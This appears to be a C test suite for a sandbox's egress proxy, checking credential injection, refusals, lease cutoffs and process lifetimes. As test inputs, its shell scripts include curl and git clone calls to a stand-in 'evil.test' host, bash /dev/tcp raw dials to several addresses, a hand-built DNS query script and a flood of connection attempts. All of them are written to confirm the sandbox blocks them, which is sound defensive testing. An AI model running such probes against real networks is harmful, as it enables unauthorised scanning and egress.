/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The part `egress` in a real fence: the real sandbox part makes a cell, its
 * zygote forks the egress, real clients run in the cell.  This program plays
 * supervisor, core, vault, resolver and the origin.
 */
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <sys/pidfd.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "ids_help.h"
#include "proxy_help.h"
#include "wire/wire.h"

#include "egress_pid_help.h"

#define SLOTS 8

struct house {
	struct loop *loop;
	struct origin origin;
	struct buf origin_ca;
	pid_t pid;
	struct wire_peer *supervisor, *sandbox, *egress, *vault, *resolver;
	bool ready, made, started, executed, ended, fenced, egress_gone;
	char text[WIRE_TEXT_MAX];
	struct wire_fence_up fence;
	struct wire_cell_executed done;
	/* what core decides */
	bool refuse;
	bool ends; /* the lease, soon after something was asked */
	bool slow; /* core reads once in a while */
	/* the vault is another, and was told nothing */
	bool restarts, forgets;
	uint64_t cell;
	enum wire_place place;
	size_t intents, outcomes, early, redeems;
	struct wire_intent intent;
	struct wire_outcome outcome;
	char early_text[WIRE_TEXT_MAX];
};

static struct house house;

static void
wait_for(struct mono limit, const char *condition)
{
	if (mono_passed(limit, mono_now())) {
		fail_msg("never: %s (%s)", condition, house.text);
	}
	(void)usleep(200);
	loop_turn(house.loop, 0);
	origin_step(&house.origin);
}

#define until(condition)                                                     \
	for (struct mono limit_ = mono_after(mono_now(), 60 * CLOCK_SECOND); \
	     !(condition); wait_for(limit_, #condition)) {                   \
	}

/* NOLINTBEGIN(readability-non-const-parameter): handlers of one type */

/* --- what the parts say --------------------------------------------------- */

#define TAKE(name)                                            \
	static void name(void *owner, struct wire_peer *peer, \
	    const void *record, int *fds, size_t nfds)
#define UNUSED4      \
	(void)owner; \
	(void)peer;  \
	(void)fds;   \
	(void)nfds

TAKE(take_ready)
{
	UNUSED4;
	(void)record;
	house.ready = true;
}

static void join_peers(void);
static void lease(int64_t us);

static void
asked(const struct wire_intent *w)
{
	house.intents++;
	house.intent = *w;
	if (house.ends) {
		lease(CLOCK_SECOND / 2);
		return;
	}
	if (house.refuse) {
		struct wire_refuse no = { .id = w->id,
			.status = 403,
			.error = "denied",
			.rule = "none",
			.reason = "no rule allows it",
			.next = "[egress.it]" };
		wire_send(house.egress, WIRE_REFUSE, &no, NULL, 0);
		return;
	}
	struct wire_going all = { 0 };
	struct wire_go go = { .id = w->id,
		.grant = house.place ? 1000 + w->id : 0,
		.place = house.place,
		.pinned = 1,
		.tls = 1,
		.has_ca = 1,
		.pin_port = house.origin.port,
		.pin = { .family = 4, .bytes = { 127, 0, 0, 1 } },
		.name = "Authorization",
		.format = "Bearer {{secret}}",
		.rule = "egress.good" };
	struct err e;
	int ca = memfd_sealed("ca", buf_str(&house.origin_ca), &e);
	all.go = go;
	wire_send(house.egress, WIRE_GO, &all, &ca, 1);
	if (house.restarts) { /* between what it was lent and its redeeming */
		wire_peer_free(house.vault);
		wire_peer_free(house.resolver);
		join_peers();
	}
}

TAKE(take_intent)
{
	UNUSED4;
	asked(record);
}

TAKE(take_intents)
{
	const struct wire_intents *w = record;
	const char *text = w->text;
	UNUSED4;
	for (size_t n = 0; n < w->count; n++) {
		struct wire_intent one = { .id = w->one[n].id,
			.port = w->port,
			.tls = w->tls != 0,
			.named = w->named != 0,
			.body = (uint8_t)w->one[n].body };
		memcpy(one.host, w->host, sizeof(one.host));
		text = stpcpy(one.method, text) - one.method + text + 1;
		text = stpcpy(one.path, text) - one.path + text + 1;
		text = stpcpy(one.query, text) - one.query + text + 1;
		asked(&one);
	}
}

TAKE(take_outcome)
{
	const struct wire_outcome *w = record;
	UNUSED4;
	if (w->id == 0) {
		house.early++;
		memcpy(house.early_text, w->text, sizeof(w->text));
		return;
	}
	house.outcomes++;
	house.outcome = *w;
}

TAKE(take_answered)
{
	const struct wire_answered *w = record;
	UNUSED4;
	for (uint64_t n = 0; n < w->count; n++) {
		house.outcomes++;
		house.outcome = (struct wire_outcome){ .id = w->one[n].id,
			.end = WIRE_OUTCOME_ANSWERED,
			.status = w->one[n].status,
			.injected = w->one[n].injected != 0 };
	}
}

TAKE(take_fence)
{
	UNUSED4;
	house.fence = *(const struct wire_fence_up *)record;
	house.fenced = true;
}

TAKE(take_redeem)
{
	const struct wire_redeem *w = record;
	UNUSED4;
	house.redeems++;
	struct wire_credential c = { .count = w->count,
		.ok = strcmp(w->host, GOOD) == 0 && !house.forgets,
		.size = sizeof(SECRET) - 1,
		.text = "no such grant" };
	memcpy(c.secret, SECRET, sizeof(SECRET) - 1);
	memcpy(c.number, w->number, sizeof(c.number));
	wire_send(house.vault, WIRE_CREDENTIAL, &c, NULL, 0);
}

TAKE(take_resolve)
{
	const struct wire_resolve *w = record;
	UNUSED4;
	struct wire_resolved r = { .id = w->id, .text = "no such name" };
	wire_send(house.resolver, WIRE_RESOLVED, &r, NULL, 0);
}

static void
closed(void *owner, struct wire_peer *peer, const struct err *why)
{
	(void)owner;
	(void)why;
	if (peer == house.egress) {
		house.egress_gone = true;
		house.egress = NULL;
	}
	if (peer == house.vault) {
		house.vault = NULL;
	}
	if (peer == house.resolver) {
		house.resolver = NULL;
	}
	wire_peer_free(peer);
}

static struct wire_peer *
meet(enum part self, enum part other, int fd,
    const struct wire_handler *handlers, size_t count)
{
	struct err e;
	struct wire_end end = { .self = self,
		.other = other,
		.handlers = handlers,
		.count = count,
		.closed = closed };
	struct wire_peer *peer = wire_peer_new(house.loop, fd, &end, &e);
	assert_non_null(peer);
	return peer;
}

static const struct wire_handler from_egress[] = {
	{ WIRE_FENCE_UP, take_fence },
	{ WIRE_INTENT, take_intent },
	{ WIRE_INTENTS, take_intents },
	{ WIRE_OUTCOME, take_outcome },
	{ WIRE_ANSWERED, take_answered },
};
static const struct wire_handler to_vault[] = { { WIRE_REDEEM, take_redeem } };
static const struct wire_handler to_resolver[] = {
	{ WIRE_RESOLVE, take_resolve },
};

static void
join_peers(void)
{
	struct err e;
	int vault[2];
	int resolver[2];
	assert_int_equal(wire_pair(vault, &e), 0);
	assert_int_equal(wire_pair(resolver, &e), 0);
	house.vault = meet(PART_VAULT, PART_EGRESS, vault[0], to_vault, 1);
	house.resolver =
	    meet(PART_RESOLVER, PART_EGRESS, resolver[0], to_resolver, 1);
	struct wire_attach a = { .cell = house.cell };
	int ends[2] = { vault[1], resolver[1] };
	wire_send(house.egress, WIRE_EGRESS_PEERS, &a, ends, 2);
}

TAKE(take_made)
{
	const struct wire_cell_made *w = record;
	UNUSED4;
	memcpy(house.text, w->text, sizeof(w->text));
	assert_true(w->ok && nfds == 1);
	house.egress = meet(PART_CORE, PART_EGRESS, take_fd(&fds[0]),
	    from_egress, COUNT(from_egress));
	house.cell = w->cell;
	join_peers();
	house.made = true;
}

TAKE(take_started)
{
	const struct wire_cell_started *w = record;
	UNUSED4;
	memcpy(house.text, w->text, sizeof(w->text));
	assert_true(w->ok);
	house.started = true;
}

TAKE(take_executed)
{
	UNUSED4;
	house.done = *(const struct wire_cell_executed *)record;
	house.executed = true;
}

TAKE(take_ended)
{
	const struct wire_cell_ended *w = record;
	UNUSED4;
	memcpy(house.text, w->text, sizeof(w->text));
	house.ended = true;
}

/* NOLINTEND(readability-non-const-parameter) */

static const struct wire_handler from_sandbox[] = {
	{ WIRE_CELL_MADE, take_made },
	{ WIRE_CELL_STARTED, take_started },
	{ WIRE_CELL_EXECUTED, take_executed },
	{ WIRE_CELL_ENDED, take_ended },
};
static const struct wire_handler sandbox_up[] = {
	{ WIRE_SANDBOX_READY, take_ready },
};

/* --- the house ------------------------------------------------------------ */

static void
spawn_sandbox(const char *libexec)
{
	char path[512];
	char base[16];
	char slots[16];
	int up[2];
	int core[2];
	struct err e;
	(void)snprintf(path, sizeof(path), "%s/sandbox", libexec);
	(void)snprintf(base, sizeof(base), "%d", getuid() ? 0 : house_ids());
	(void)snprintf(slots, sizeof(slots), "%d", SLOTS);
	assert_int_equal(wire_pair(up, &e), 0);
	assert_int_equal(wire_pair(core, &e), 0);
	house.pid = fork();
	assert_true(house.pid >= 0);
	if (house.pid == 0) {
		int a = fcntl(up[1], F_DUPFD, 64);
		int b = fcntl(core[1], F_DUPFD, 64);
		(void)dup2(a, 3);
		(void)dup2(b, 4);
		(void)close_range(5, ~0U, 0);
		(void)execl(path, "sandbox", "--libexec", libexec, "--uid-base",
		    base, "--slots", slots, (char *)NULL);
		_exit(127);
	}
	(void)close(up[1]);
	(void)close(core[1]);
	house.supervisor =
	    meet(PART_SUPERVISOR, PART_SANDBOX, up[0], sandbox_up, 1);
	house.sandbox = meet(PART_CORE, PART_SANDBOX, core[0], from_sandbox,
	    COUNT(from_sandbox));
}

static int
set_up(void **state)
{
	(void)state;
	/* NOLINTNEXTLINE(concurrency-mt-unsafe): one thread */
	const char *libexec = getenv("HANDRAIL_LIBEXEC");
	if (!libexec) {
		return -1;
	}
	house.loop = loop_new();
	origin_listen(&house.origin, house.loop, "127.0.0.1");
	house.origin.answer =
	    "HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n";
	buf_add(&house.origin_ca, tls_ca_pem(house.origin.ca));
	spawn_sandbox(libexec);
	until(house.ready);
	return 0;
}

static int
tear_down(void **state)
{
	int status = -1;
	(void)state;
	wire_peer_free(house.sandbox);
	wire_peer_free(house.supervisor);
	assert_int_equal(waitpid(house.pid, &status, 0), house.pid);
	for (size_t i = 0; i < house.origin.count; i++) {
		end_close(&house.origin.at[i]);
	}
	loop_io_close(&house.origin.io);
	(void)close(house.origin.fd);
	tls_ca_free(house.origin.ca);
	buf_fini(&house.origin_ca);
	loop_free(house.loop);
	return 0;
}

static void
lease(int64_t us)
{
	struct wire_egress_lease w = {
		.deadline = (uint64_t)mono_after(mono_now(), us).us
	};
	wire_send(house.egress, WIRE_EGRESS_LEASE, &w, NULL, 0);
}

static void
cell_up(uint64_t number)
{
	struct wire_cell_make m = { .cell = number,
		.slot = 3,
		.flags = WIRE_CELL_FENCE,
		.hostname = "fenced" };
	house.made = house.fenced = house.started = house.ended = false;
	house.refuse = house.ends = house.egress_gone = false;
	house.place = WIRE_PLACE_NONE;
	house.intents = house.outcomes = house.early = house.redeems = 0;
	wire_send(house.sandbox, WIRE_CELL_MAKE, &m, NULL, 0);
	until(house.made && house.fenced);
	assert_int_equal(house.fence.cell, number);
	lease(60 * CLOCK_SECOND);
	struct wire_cell_start s = { .cell = number,
		.ca_size = house.fence.ca_size };
	memcpy(s.ca, house.fence.ca, sizeof(s.ca));
	wire_send(house.sandbox, WIRE_CELL_START, &s, NULL, 0);
	until(house.started);
}

static void
neighbours_down(void)
{
	wire_peer_free(house.vault);
	wire_peer_free(house.resolver);
	house.vault = house.resolver = NULL;
	for (size_t i = 0; i < house.origin.count; i++) {
		end_close(&house.origin.at[i]);
	}
	house.origin.count = 0;
}

static void
cell_down(uint64_t number)
{
	struct wire_cell_end w = { .cell = number };
	wire_send(house.sandbox, WIRE_CELL_END, &w, NULL, 0);
	until(house.ended);
	assert_string_equal(house.text, "");
	until(house.egress_gone);
	neighbours_down();
}

static void
read_more(int fd, struct buf *text)
{
	char piece[4096];
	ssize_t n;
	while ((n = read(fd, piece, sizeof(piece))) > 0) {
		buf_add(text, str_span(piece, (size_t)n));
	}
}

/* Starts a shell script in the cell; its output comes from what is returned. */
static int
start(uint64_t cell, const char *script)
{
	struct wire_cell_exec x = { .cell = cell,
		.exec = 5,
		.argc = 3,
		.timeout = 12 * CLOCK_SECOND,
		.folder = "/tmp" };
	struct err e;
	auto_buf plan = { 0 };
	int in[2];
	int out[2];
	buf_add(&plan, str_span("sh\0-c", 6));
	buf_add(&plan, str_span(script, strlen(script) + 1));
	assert_int_equal(pipe2(in, O_CLOEXEC), 0);
	assert_int_equal(pipe2(out, O_CLOEXEC), 0);
	assert_int_equal(fcntl(out[0], F_SETFL, O_NONBLOCK), 0);
	int fds[4] = { memfd_sealed("plan", buf_str(&plan), &e), in[0], out[1],
		dup(out[1]) };
	(void)close(in[1]);
	house.executed = false;
	wire_send(house.sandbox, WIRE_CELL_EXEC, &x, fds, 4);
	return out[0];
}

/* Until its end; its output goes to text. */
static int
run(uint64_t cell, const char *script, struct buf *text)
{
	auto_close int out = start(cell, script);
	struct mono limit = mono_after(mono_now(), 60 * CLOCK_SECOND);
	buf_clear(text);
	while (!house.executed && !mono_passed(limit, mono_now())) {
		(void)usleep(house.slow ? 300000 : 200);
		loop_turn(house.loop, 0);
		origin_step(&house.origin);
		read_more(out, text);
	}
	read_more(out, text);
	assert_true(house.executed);
	return house.done.code;
}

static void
assert_said(struct buf *text, const char *needle)
{
	if (!str_has_str(buf_str(text), str_of(needle))) {
		fail_msg("no '%s' in: %s", needle, buf_z(text));
	}
}

/* --- tests ---------------------------------------------------------------- */

static void
curl_in_a_cell_gets_an_answer_and_never_the_credential(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(1);
	house.place = WIRE_PLACE_HEADER;
	int code = run(1, "curl -sS -i https://good.test/a%7eb?x=1", &text);
	assert_said(&text, "hello");
	assert_int_equal(code, 0);
	assert_int_equal(house.intents, 1);
	assert_string_equal(house.intent.host, GOOD);
	assert_string_equal(house.intent.path, "/a~b");
	assert_int_equal(house.intent.port, 443);
	assert_true(house.intent.tls && house.intent.named);
	assert_int_equal(house.redeems, 1);
	assert_true(end_got(&house.origin.at[0], "Bearer " SECRET "\r\n"));
	assert_false(str_has_str(buf_str(&text), STR(SECRET)));
	until(house.outcomes == 1);
	assert_true(house.outcome.injected);
	assert_int_equal(house.outcome.status, 200);
	cell_down(1);
}

static void
what_another_vault_was_told_is_unlent_and_not_denied(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(11);
	house.place = WIRE_PLACE_HEADER;
	house.forgets = true;
	(void)run(11, "curl -sS -i https://good.test/", &text);
	until(house.outcomes == 1);
	assert_int_equal(house.outcome.end, WIRE_OUTCOME_FAILED);
	house.restarts = true;
	(void)run(11, "curl -sS -i https://good.test/", &text);
	until(house.outcomes == 2);
	assert_int_equal(house.outcome.end, WIRE_OUTCOME_UNLENT);
	assert_int_equal(house.outcome.status, 503);
	assert_said(&text, "503 ");
	assert_said(&text, "the vault was started again");
	house.restarts = false;
	(void)run(11, "curl -sS -i https://good.test/", &text);
	until(house.outcomes == 3);
	assert_int_equal(house.outcome.end, WIRE_OUTCOME_FAILED);
	house.forgets = false;
	(void)run(11, "curl -sS -i https://good.test/", &text);
	assert_said(&text, "hello");
	cell_down(11);
}

static void
a_refusal_reaches_the_client_typed(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(2);
	house.refuse = true;
	(void)run(2,
	    "curl -sS -i --http1.1 https://evil.test/; "
	    "curl -sS -i https://evil.test/; curl -sS http://evil.test:81/; "
	    "git clone https://evil.test/r.git 2>&1 | tail -1",
	    &text);
	assert_said(&text, "403 Forbidden");
	assert_said(&text, "HTTP/2 403");
	assert_said(&text, "\"next\":\"[egress.it]\"");
	assert_said(&text, "returned error: 403");
	assert_int_equal(house.intents, 4);
	assert_int_equal(house.origin.count, 0);
	cell_down(2);
}

static void
N17_every_port_and_family_is_refused_with_one_row(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	static const char *const dials[] = { "192.0.2.10/22", "192.0.2.10/443",
		"198.51.100.7/8443", "good.test/25", "2001:db8::1/9999",
		"198.19.200.1/80" };
	cell_up(3);
	for (size_t i = 0; i < COUNT(dials); i++) {
		char script[200];
		(void)snprintf(script, sizeof(script),
		    "timeout 5 bash -c 'exec 3<>/dev/tcp/%s; "
		    "printf \"SSH-2.0-x\\r\\n\" >&3; cat <&3'",
		    dials[i]);
		(void)run(3, script, &text);
		until(house.early == i + 1);
	}
	assert_int_equal(house.intents, 0);
	/* Its own loopback stays its own. */
	(void)run(3, "timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/443' 2>&1",
	    &text);
	assert_said(&text, "refused");
	assert_int_equal(house.early, COUNT(dials));
	cell_down(3);
}

static void
D04_names_are_answered_from_whatever_server_was_asked(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(4);
	static const char script[] =
	    "cat > /tmp/q.py <<'X'\n"
	    "import socket,struct\n"
	    "def ask(f,a,own):\n"
	    "  s=socket.socket(f,socket.SOCK_DGRAM); s.settimeout(3)\n"
	    "  s.bind((own,0))\n"
	    "  q=struct.pack('>6H',7,256,1,0,0,0)+b'\\4data\\4evil\\4test\\0'"
	    "+struct.pack('>2H',1,1)\n"
	    "  s.sendto(q,(a,53)); r,w=s.recvfrom(600)\n"
	    "  print(w[0]==a, socket.inet_ntoa(r[-4:]))\n"
	    "ask(socket.AF_INET,'192.0.2.53','10.9.9.9')\n"
	    "ask(socket.AF_INET,'8.8.8.8','172.16.0.9')\n"
	    "ask(socket.AF_INET6,'2001:db8::53','::1')\n"
	    "X\n"
	    "python3 /tmp/q.py 2>&1";
	(void)run(4, script, &text);
	assert_said(&text, "True 198.18.");
	size_t lines = 0;
	for (size_t i = 0; i + 4 < text.len; i++) {
		lines += str_starts(str_sub(buf_str(&text), i, 8), STR("True"));
	}
	if (lines != 3) {
		fail_msg("%s", buf_z(&text));
	}
	assert_int_equal(house.intents, 0);
	cell_down(4);
}

static void
X03_nothing_is_carried_behind_the_lease(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(5);
	house.ends = true;
	int code = run(5, "curl -sS -m 9 https://good.test/ 2>&1", &text);
	assert_int_not_equal(code, 0);
	assert_int_not_equal(code, 28); /* it was cut, it did not time out */
	code = run(5, "curl -sS -m 9 https://good.test/ 2>&1", &text);
	assert_int_not_equal(code, 0);
	assert_int_equal(house.intents, 1);
	lease(60 * CLOCK_SECOND);
	house.ends = false;
	code = run(5, "curl -sS -m 9 https://good.test/ 2>&1", &text);
	assert_int_equal(code, 0);
	cell_down(5);
}

static void
L07_a_flood_of_refusals_is_counted_and_harms_nobody(void **state)
{
	(void)state;
	auto_buf text = { 0 };
	cell_up(9);
	static const char script[] =
	    "cat > /tmp/f.py <<'X'\n"
	    "import socket,time\n"
	    "for i in range(3000):\n"
	    "  s=socket.socket(); s.settimeout(3)\n"
	    "  try:\n"
	    "    s.connect(('198.19.200.1',80)); s.recv(1)\n"
	    "  except OSError: pass\n"
	    "  s.close()\n"
	    "X\n"
	    "timeout 11 python3 /tmp/f.py";
	house.slow = true;
	(void)run(9, script, &text);
	house.slow = false;
	assert_false(house.egress_gone);
	assert_int_equal(run(9, "curl -sS https://good.test/", &text), 0);
	assert_true(house.early > 0);
	print_message("# %zu rows of 3000 refusals\n", house.early);
	cell_down(9);
}

static void
I08_the_cell_ends_with_its_egress(void **state)
{
	(void)state;
	cell_up(6);
	assert_int_equal(kill(egress_pid(house.pid), SIGKILL), 0);
	until(house.ended && house.egress_gone);
	assert_string_not_equal(house.text, "");
	neighbours_down();
}

/* It was stopped with an answer before it, which it can say when it goes on. */
static void
a_cell_that_ends_lets_its_egress_say_its_last_word(void **state)
{
	(void)state;
	struct wire_cell_end w = { .cell = 12 };
	const char *answer = house.origin.answer;
	cell_up(12);
	house.origin.answer = NULL;
	int out = start(12, "curl -sS https://good.test/");
	until(house.origin.count && end_got(&house.origin.at[0], "\r\n\r\n"));
	int pid = egress_pid(house.pid);
	assert_int_equal(kill(pid, SIGSTOP), 0);
	wait_status(pid, "\nState:\tT ");
	end_say_z(&house.origin.at[0], answer);
	wire_send(house.sandbox, WIRE_CELL_END, &w, NULL, 0);
	wait_status(pid, "\nShdPnd:\t0000000000004000\n"); /* SIGTERM */
	assert_int_equal(kill(pid, SIGCONT), 0);
	until(house.ended && house.egress_gone);
	assert_int_equal(house.outcomes, 1);
	(void)close(out);
	house.origin.answer = answer;
	neighbours_down();
}

static void
one_that_does_not_end_is_killed(void **state)
{
	(void)state;
	cell_up(13);
	assert_int_equal(kill(egress_pid(house.pid), SIGSTOP), 0);
	cell_down(13);
}

static void
an_egress_ends_when_core_hangs_up(void **state)
{
	(void)state;
	cell_up(7);
	struct pollfd gone = { .events = POLLIN };
	gone.fd = pidfd_open(egress_pid(house.pid), 0);
	assert_true(gone.fd >= 0);
	wire_peer_free(house.egress);
	house.egress = NULL;
	until(poll(&gone, 1, 0) == 1);
	(void)close(gone.fd);
	until(house.ended);
	neighbours_down();
}

static void
print_size(int pid)
{
	auto_buf text = { 0 };
	struct str line;
	status_of(pid, "smaps_rollup", &text);
	struct str rest = buf_str(&text);
	while (str_cut(&rest, '\n', &line)) {
		if (str_starts(line, STR("Pss:")) ||
		    str_starts(line, STR("Private_Dirty:"))) {
			print_message("# egress " STR_FMT "\n", STR_ARG(line));
		}
	}
}

static void
an_egress_is_narrow_and_small(void **state)
{
	(void)state;
#ifdef HANDRAIL_NO_JAIL
	print_message("# no filters in a sanitizer build\n");
	skip();
#endif
	auto_buf text = { 0 };
	cell_up(8);
	assert_int_equal(run(8, "curl -sS https://good.test/", &text), 0);
	int pid = egress_pid(house.pid);
	status_of(pid, "status", &text);
	assert_said(&text, "Seccomp:\t2");
	assert_said(&text, "NoNewPrivs:\t1");
	assert_said(&text, "CapEff:\t0000000000000000");
	if (getuid() == 0) {
		char uid[32];
		(void)snprintf(
		    uid, sizeof(uid), "Uid:\t%d\t", house_ids() + SLOTS + 3);
		assert_said(&text, uid);
		print_size(pid);
	}
	cell_down(8);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
		    curl_in_a_cell_gets_an_answer_and_never_the_credential),
		cmocka_unit_test(a_refusal_reaches_the_client_typed),
		cmocka_unit_test(
		    N17_every_port_and_family_is_refused_with_one_row),
		cmocka_unit_test(
		    D04_names_are_answered_from_whatever_server_was_asked),
		cmocka_unit_test(X03_nothing_is_carried_behind_the_lease),
		cmocka_unit_test(
		    what_another_vault_was_told_is_unlent_and_not_denied),
		cmocka_unit_test(
		    L07_a_flood_of_refusals_is_counted_and_harms_nobody),
		cmocka_unit_test(I08_the_cell_ends_with_its_egress),
		cmocka_unit_test(
		    a_cell_that_ends_lets_its_egress_say_its_last_word),
		cmocka_unit_test(one_that_does_not_end_is_killed),
		cmocka_unit_test(an_egress_ends_when_core_hangs_up),
		cmocka_unit_test(an_egress_is_narrow_and_small),
	};
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
